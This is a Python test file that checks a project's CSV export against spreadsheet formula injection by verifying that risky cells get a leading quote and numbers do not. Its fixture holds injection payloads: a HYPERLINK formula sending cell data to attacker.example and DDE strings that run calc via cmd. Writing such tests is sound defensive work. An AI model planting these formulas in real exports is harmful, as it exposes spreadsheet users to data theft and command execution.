"""A CSV export opened in a spreadsheet shows model text as text (issue 25): a cell starting
with =, +, -, @, a tab or a carriage return would run as a formula, so it starts with a single
quote, as OWASP's CSV-injection guidance says. Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from orchlab.core.records import ExperimentRecord, OutboxMessage, RunMetrics, RunRecord, utcnow
from orchlab.store import export
from orchlab.store.store import Store

FORMULAS = {
    "equals": '=HYPERLINK("https://attacker.example/?d="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
}


def test_formula_cells_are_quoted_and_numbers_are_not(store: Store) -> None:
    store.save_experiment(ExperimentRecord("exp-csv", "sales_email", "scripted:sales",
                                           utcnow(), {}, 1))
    outcome = {"success": False, "delta": -3, "ratio": -0.5, **FORMULAS}
    store.save_run(RunRecord(
        run_id="run-1", experiment_id="exp-csv", scenario="sales_email", form="code",
        input_id="dana-acme", repetition=0, backend="scripted:sales", model="m",
        started_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), status="error",
        error_message="-1 tool calls left", final_output=FORMULAS["equals"],
        metrics=RunMetrics(wall_ms=12.5, path="@agent"), success=False, outcome=outcome,
        outbox=[OutboxMessage(to="x@y.example", subject="s", body="b")]))

    (row,) = csv.DictReader(io.StringIO(export.to_csv(store, "exp-csv"), newline=""))
    for key, text in FORMULAS.items():
        assert row[f"outcome_{key}"] == "'" + text, key
    assert row["final_output"] == "'" + FORMULAS["equals"]
    assert row["error_message"] == "'-1 tool calls left"
    assert row["path"] == "'@agent"
    assert row["outcome_delta"] == "-3" and row["outcome_ratio"] == "-0.5"  # numbers
    assert row["wall_ms"] == "12.5" and row["outcome_success"] == "False"
    assert row["input_id"] == "dana-acme"  # other text as it was
